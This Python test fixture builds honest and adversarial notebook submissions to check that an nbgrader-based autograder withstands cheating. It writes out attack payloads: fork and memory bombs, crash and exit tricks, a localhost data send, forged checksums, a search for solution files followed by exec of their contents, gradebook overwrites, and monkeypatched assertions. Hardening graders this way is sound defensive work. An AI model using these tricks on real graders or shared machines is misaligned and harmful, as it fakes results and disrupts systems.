"""Submissions for the grader's tests: honest ones, and known ways to beat a naive autograder.

Each case is built from the released student notebook of chapter 1, with the
solutions filled in (honest) and then one attack applied. ``expected`` is the score
the grader must give and ``flag`` a phrase its integrity report must contain.
"""
from __future__ import annotations

import copy
import dataclasses
import json
import re
import zipfile

import nbformat

from conftest import REPO

CHAPTER = "01_episodes"
POINTS = {"ex1_validator_tests": 4, "ex2_transitions_tests": 3, "ex3_wam_tests": 2, "ex4_pyramid_tests": 3}
FULL = sum(POINTS.values())


def honest() -> nbformat.NotebookNode:
    source = nbformat.read(REPO / "solutions" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    student = nbformat.read(REPO / "course" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source.cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in student.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = re.sub(r"^[ \t]*### (BEGIN|END) SOLUTION\n", "", answers[gid], flags=re.M)
    return student


def cell_of(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def prepend(nb, gid, code):
    cell = cell_of(nb, gid)
    cell.source = code + "\n" + cell.source


def add_after(nb, gid, code):
    index = nb.cells.index(cell_of(nb, gid))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))


WRONG_TRANSITIONS = '''
def make_transitions(episodes, key="observation/state"):
    states = np.concatenate([e.steps[key] for e in episodes])     # crosses episode boundaries
    actions = np.concatenate([e.steps["action"] for e in episodes])
    return states[:-1], actions[:-1], states[1:]
'''
WRONG_VALIDATOR = '''
REQUIRED = ("observation/state", "action", "reward", "is_first", "is_last")
def find_problem(steps, action_low, action_high):
    return None
'''


@dataclasses.dataclass
class Case:
    student: str
    expected: float
    flag: str | None
    build: object  # nb -> None, edits the honest notebook in place


def attack_cases(grades_dir: str, port: int) -> list[Case]:
    return [
        Case("loop", 4, None, lambda nb: prepend(nb, "ex2_transitions", "while True:\n    pass")),
        Case("exit", 7, None, lambda nb: prepend(nb, "ex3_wam", "import os\nos._exit(3)")),
        Case("segfault", 9, None, lambda nb: prepend(nb, "ex4_pyramid", "import ctypes\nctypes.string_at(0)")),
        Case("membomb", 9, None, lambda nb: prepend(nb, "ex2_transitions",
                                                    "hoard = [bytearray(1 << 30) for _ in range(64)]")),
        Case("forkbomb", FULL, None, lambda nb: add_after(nb, "ex1_validator", (
            "import os, time\nfor _ in range(100000):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
            "    if pid == 0:\n        time.sleep(3600)\n        os._exit(0)"))),
        Case("chatty", FULL, None, lambda nb: add_after(nb, "ex1_validator", "print('x' * (100 << 20))")),
        Case("network", FULL, None, lambda nb: add_after(nb, "ex1_validator", (
            "import socket\ntry:\n    socket.create_connection(('127.0.0.1', %d), timeout=3).sendall(b'leak')\n"
            "except OSError as err:\n    print('no network:', err)" % port))),
        Case("edited_test", 8, "edited test cell ex1_validator_tests", lambda nb: (
            prepend(nb, "ex1_validator", WRONG_VALIDATOR + "\n'''"),
            cell_of(nb, "ex1_validator").__setitem__("source", cell_of(nb, "ex1_validator").source + "\n'''"),
            cell_of(nb, "ex1_validator_tests").__setitem__("source", "print('all good')"))),
        Case("deleted_test", 9, "deleted cell ex2_transitions_tests", lambda nb: (
            cell_of(nb, "ex2_transitions").__setitem__("source", WRONG_TRANSITIONS),
            nb.cells.remove(cell_of(nb, "ex2_transitions_tests")))),
        Case("forged_checksum", FULL, "edited locked cell", forge_checksum),
        Case("reads_solutions", 8, None, lambda nb: cell_of(nb, "ex1_validator").__setitem__("source", (
            "import json, glob\nREQUIRED = ('observation/state', 'action', 'reward', 'is_first', 'is_last')\n"
            "found = [p for root in ('/work', '/root', '/home', '/tmp', '/srv') for pattern in ('/**/solutions/**/*.ipynb', '/**/grades.csv', '/**/gradebook*')\n"
            "         for p in glob.glob(root + pattern, recursive=True)]\n"
            "print('found', found)\n"
            "for path in found:\n    exec(open(path).read())\n"
            "def find_problem(steps, action_low, action_high):\n    return None"))),
        Case("writes_gradebook", FULL, None, lambda nb: add_after(nb, "ex1_validator", (
            "import pathlib\nfor target in [%r, %r]:\n    try:\n        pathlib.Path(target).write_text('mallory,01_episodes,999')\n"
            "        print('wrote', target)\n    except OSError as err:\n        print('refused:', err)"
            % (f"{grades_dir}/grades.csv", str(REPO / "wmlib" / "pwned.txt"))))),
        Case("patched_asserts", 4, "altered", lambda nb: cell_of(nb, "ex2_transitions").__setitem__("source", (
            "import numpy.testing, wmlib.grading.checks as checks\n"
            "numpy.testing.assert_array_equal = lambda *a, **k: None\n"
            "checks.same_array = lambda *a, **k: None\nchecks.same = lambda *a, **k: None\n" + WRONG_TRANSITIONS))),
        Case("always_equal", 8, None, lambda nb: add_after(nb, "ex1_validator", (
            "class Yes(tuple):\n    def __eq__(self, other):\n        return True\n    __hash__ = tuple.__hash__\n"
            "def find_problem(steps, action_low, action_high):\n    return Yes()"))),
        Case("silent_errors", 4, "altered", lambda nb: cell_of(nb, "ex2_transitions").__setitem__("source", (
            "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None\n"
            "import sys\nsys.excepthook = lambda *a: None\n" + WRONG_TRANSITIONS))),
        Case("rewrites_cells", 4, "altered", lambda nb: cell_of(nb, "ex2_transitions").__setitem__("source", (
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n" + WRONG_TRANSITIONS))),
    ]


def forge_checksum(nb):
    """Edit a locked cell and recompute nbgrader's checksum so that it looks untouched."""
    from nbgrader.utils import compute_checksum

    setup = next(c for c in nb.cells if "setup" in c.metadata.get("tags", []))
    setup.source += "\npush = push[:3]  # fewer episodes: the visible tests of exercise 4 would change"
    setup.metadata["nbgrader"]["checksum"] = compute_checksum(setup)


def write_battery(folder, grades_dir: str, port: int, honest_students=("ann", "ben", "cat", "dan", "eve")):
    """Write every case in nbgrader's layout, the honest ones too, plus two downloaded-file layouts."""
    cases = attack_cases(grades_dir, port)
    base = honest()
    for case in cases:
        nb = copy.deepcopy(base)
        case.build(nb)
        path = folder / case.student / CHAPTER / f"{CHAPTER}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
    for student in honest_students:
        path = folder / student / CHAPTER / f"{CHAPTER}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(copy.deepcopy(base), path)
    # downloaded files: a loose notebook and a zip, student id before the first "_"
    nbformat.write(copy.deepcopy(base), folder / f"fay_attempt2_{CHAPTER}.ipynb")
    with zipfile.ZipFile(folder / f"gus_{CHAPTER}.zip", "w") as archive:
        archive.writestr(f"{CHAPTER}.ipynb", nbformat.writes(copy.deepcopy(base)))
    (folder / f"hal_{CHAPTER}.ipynb").write_text("{ this is not json")
    expected = {c.student: (c.expected, c.flag) for c in cases}
    expected.update({s: (FULL, None) for s in (*honest_students, "fay", "gus")})
    expected["hal"] = (0, "unreadable notebook")
    return expected
